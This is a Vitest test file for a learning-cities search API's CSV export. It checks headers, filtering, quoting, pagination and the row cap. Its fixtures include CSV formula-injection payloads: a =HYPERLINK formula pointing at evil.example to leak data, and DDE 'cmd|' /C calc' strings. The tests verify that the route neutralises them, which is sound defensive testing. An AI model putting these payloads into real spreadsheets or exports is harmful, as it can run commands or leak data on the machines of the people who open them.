import type { Meilisearch } from "meilisearch";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MAX_CSV_ROWS } from "../../api/routes/search-csv.ts";
import type { ErrorBody } from "../../api/schemas.ts";
import type { CityDocument } from "../../core/city-document.ts";
import { loadDocuments } from "../../indexer/load.ts";
import type { SearchResult } from "../../search/result-schemas.ts";
import { createApp } from "../../server/create-app.ts";
import { silentLogger, testMeiliClient, uniqueIndexName } from "../helpers/meili.ts";
import { seedDocuments } from "../helpers/seed-documents.ts";
import { sharedSeededIndex } from "../helpers/seeded-index.ts";

const HEADER = ["id", "city", "country", "countryCode", "region", "themes", "tagline"];
/** Filler cities in the crafted index: more than one CSV may hold, over several pages. */
const FILLERS = MAX_CSV_ROWS + 5;
/** Filler cities placed in Africa: more than one page of 100 hits, less than the cap. */
const AFRICAN_FILLERS = 150;

let client: Meilisearch;
let craftedIndex: string;
let app: ReturnType<typeof createApp>;
let crafted: ReturnType<typeof createApp>;

/** A document of our own, built on a seed city so that it carries every field and a vector. */
const craft = (id: string, fields: Partial<CityDocument>): CityDocument => {
  const [template] = seedDocuments();
  if (!template) throw new Error("the seed is empty");
  return { ...template, id, themes: [], themeTags: [], keyphrases: [], ...fields };
};

const FORMULA_CITIES: CityDocument[] = [
  craft("formula-hyperlink", {
    city: "Hyperlink",
    tagline: '=HYPERLINK("https://evil.example/?leak=1","Click me")',
  }),
  craft("formula-plus", { city: "Plus", tagline: "+cmd|' /C calc'!A0" }),
  craft("formula-minus", { city: "Minus", tagline: "-2+3+cmd|' /C calc'!A0" }),
  craft("formula-at", { city: "At", tagline: "@SUM(1+1)*cmd|' /C calc'!A0" }),
  craft("formula-city", { city: "=1+1", tagline: "A formula in the city's name" }),
  craft("plain-comma", { city: "Comma", tagline: "Learning, together = growth" }),
].map((document) => ({ ...document, country: "Formulaland", countryCode: "FL" }));

const FILLER_CITIES: CityDocument[] = Array.from({ length: FILLERS }, (_, i) =>
  craft(`filler-${i}`, {
    city: `Filler ${i}`,
    country: "Fillerland",
    countryCode: "FF",
    region: i < AFRICAN_FILLERS ? "Africa" : "Arab States",
    tagline: `Filler city number ${i}`,
    text: `Filler city number ${i}`,
    rawText: `Filler city number ${i}`,
    lemmas: "",
    sections: { intro: "", vision: "", challenges: "", plan: "" },
  }),
);

beforeAll(async () => {
  const seeded = sharedSeededIndex();
  app = createApp({
    meili: seeded.client,
    indexName: seeded.indexName,
    logger: silentLogger,
    rateLimitPerMinute: 0,
  });
  client = testMeiliClient();
  craftedIndex = uniqueIndexName("csv-crafted");
  await loadDocuments(client, craftedIndex, [...FORMULA_CITIES, ...FILLER_CITIES]);
  crafted = createApp({
    meili: client,
    indexName: craftedIndex,
    logger: silentLogger,
    rateLimitPerMinute: 0,
  });
});

afterAll(async () => {
  await client.deleteIndex(craftedIndex).waitTask();
});

/**
 * Parses RFC 4180 CSV: a quoted cell may hold commas, line breaks and doubled quotes.
 *
 * @example
 * parseCsv('a,"b,""c"""\n'); // [["a", 'b,"c"']]
 */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (!quoted && char === ",") {
      row.push(cell);
      cell = "";
    } else if (!quoted && char === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
};

const csv = async (query: string, target = app) => {
  const response = await target.request(`/api/search.csv${query}`);
  const text = await response.text();
  return { response, text, rows: response.status === 200 ? parseCsv(text) : [] };
};

/** The data rows as objects keyed by the header's names. */
const records = (rows: string[][]) =>
  rows.slice(1).map((cells) => Object.fromEntries(HEADER.map((name, i) => [name, cells[i]])));

const searchIds = async (query: string) => {
  const response = await app.request(`/api/search?hitsPerPage=100&${query}`);
  return ((await response.json()) as SearchResult).hits.map((hit) => hit.id);
};

describe("GET /api/search.csv", () => {
  it("answers text/csv as a downloadable file", async () => {
    const { response } = await csv("?q=");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="learning-cities.csv"',
    );
  });

  it("starts with a header row naming the columns", async () => {
    const { text, rows } = await csv("?q=");
    expect(text.split("\n")[0]).toBe(HEADER.join(","));
    expect(rows[0]).toEqual(HEADER);
  });

  it("holds one row per city, 12 for an empty query, in the JSON route's order", async () => {
    const { rows } = await csv("?q=");
    expect(rows).toHaveLength(13);
    expect(rows.slice(1).every((cells) => cells.length === HEADER.length)).toBe(true);
    const ids = records(rows).map((record) => record.id);
    expect(ids).toEqual(await searchIds("q="));
    expect([...ids].sort()).toEqual(
      seedDocuments()
        .map((document) => document.id)
        .sort(),
    );
  });

  it("holds only the cities that match the filters, fewer with theme=ageing", async () => {
    const { rows } = await csv("?theme=ageing");
    const ids = records(rows).map((record) => record.id);
    expect(ids.length).toBeGreaterThan(0);
    expect(ids.length).toBeLessThan(12);
    expect(ids).toEqual(await searchIds("theme=ageing"));
    expect(ids).toContain("beijing-china");
  });

  it("writes a city's fields in their columns, its themes joined with semicolons", async () => {
    const { rows } = await csv("?q=");
    const beijing = records(rows).find((record) => record.id === "beijing-china");
    const document = seedDocuments().find((candidate) => candidate.id === "beijing-china");
    expect(beijing).toEqual({
      id: "beijing-china",
      city: "Beijing",
      country: "China",
      countryCode: "CN",
      region: "Asia and the Pacific",
      themes: document?.themes.join("; "),
      tagline: "Capital of Learning for comprehensive development",
    });
  });

  it("quotes a cell that holds a comma, so the row keeps its columns", async () => {
    const { text, rows } = await csv("?country=Formulaland", crafted);
    expect(text).toContain(',"Learning, together = growth"\n');
    const comma = records(rows).find((record) => record.id === "plain-comma");
    expect(comma?.tagline).toBe("Learning, together = growth");
  });

  it("defuses a cell starting with =, +, - or @ with a leading apostrophe", async () => {
    const { text, rows } = await csv("?country=Formulaland", crafted);
    const byId = new Map(records(rows).map((record) => [record.id, record]));
    expect(byId.get("formula-hyperlink")?.tagline).toBe(
      `'=HYPERLINK("https://evil.example/?leak=1","Click me")`,
    );
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=1"",""Click me"")"`);
    expect(byId.get("formula-plus")?.tagline).toBe("'+cmd|' /C calc'!A0");
    expect(byId.get("formula-minus")?.tagline).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(byId.get("formula-at")?.tagline).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(byId.get("formula-city")?.city).toBe("'=1+1");
  });

  it("leaves alone a cell whose formula character is not the first", async () => {
    const { rows } = await csv("?country=Formulaland", crafted);
    const byId = new Map(records(rows).map((record) => [record.id, record]));
    expect(byId.get("plain-comma")?.tagline).toBe("Learning, together = growth");
    expect(byId.get("formula-city")?.tagline).toBe("A formula in the city's name");
  });

  it("gathers every matching city across pages of search results", async () => {
    const { rows } = await csv("?region=Africa", crafted);
    const ids = records(rows).map((record) => record.id);
    expect(ids).toHaveLength(AFRICAN_FILLERS);
    expect(new Set(ids).size).toBe(AFRICAN_FILLERS);
  });

  it("stops at 1,000 rows when more cities match", async () => {
    const { rows } = await csv("?country=Fillerland", crafted);
    const ids = records(rows).map((record) => record.id);
    expect(ids).toHaveLength(MAX_CSV_ROWS);
    expect(new Set(ids).size).toBe(MAX_CSV_ROWS);
  });

  it("rejects an unknown theme with 400 and the same error body as the JSON route", async () => {
    const { response, text } = await csv("?theme=astrology");
    expect(response.status).toBe(400);
    const body = JSON.parse(text) as ErrorBody;
    expect(body.error.code).toBe("invalid_request");
    expect(body.error.message).toMatch(
      /theme “astrology” is not a theme; valid themes: literacy, sustainability/,
    );
    const json = await app.request("/api/search?theme=astrology");
    expect(body).toEqual(await json.json());
  });
});
